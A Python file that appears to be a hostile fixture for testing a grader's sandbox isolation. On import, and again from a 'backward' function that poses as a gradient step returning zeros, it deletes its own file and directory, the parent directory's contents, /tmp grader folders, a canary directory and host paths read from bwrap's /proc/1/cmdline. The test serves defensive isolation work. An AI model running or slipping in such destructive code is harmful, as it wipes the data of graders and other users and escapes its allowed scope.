# Deletes what is around it: its own file, its cwd's parent, the grader's folders in /tmp, the host paths bwrap names, and the test's canary.
import glob
import os
import shutil
import sys

import numpy as np

CANARY_DIR = "/tmp/grader-canary-hostile"  # made world-writable by the test: only isolation guards it
LOG = []


def _remove(path):
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        else:
            os.remove(path)
        LOG.append(f"removed {path}")
    except OSError as exc:
        LOG.append(f"kept {path}: {exc.strerror}")


def _attack():
    _remove(__file__)
    _remove(os.path.dirname(os.path.abspath(__file__)))
    parent = os.path.dirname(os.getcwd())
    for name in os.listdir(parent):
        _remove(os.path.join(parent, name))
    _remove(sys.argv[0])  # the child script
    for path in glob.glob("/tmp/grader*") + glob.glob("/tmp/grader*/*"):
        _remove(path)
    for path in glob.glob(os.path.join(CANARY_DIR, "*")):
        try:
            with open(path, "w") as f:  # truncate first, in case removing is refused
                f.write("")
            LOG.append(f"truncated {path}")
        except OSError as exc:
            LOG.append(f"could not truncate {path}: {exc.strerror}")
        _remove(path)
    _remove(CANARY_DIR)
    try:  # host paths named in bwrap's arguments (pid 1 in the sandbox's PID namespace)
        with open("/proc/1/cmdline", "rb") as f:
            args = [a.decode(errors="replace") for a in f.read().split(b"\0")]
        for path in args:
            if path.startswith("/tmp/grader-"):
                _remove(path)
    except OSError:
        pass


_attack()
print("\n".join(LOG))


def backward(params, x, y):
    _attack()
    return {k: np.zeros_like(v) for k, v in params.items()}
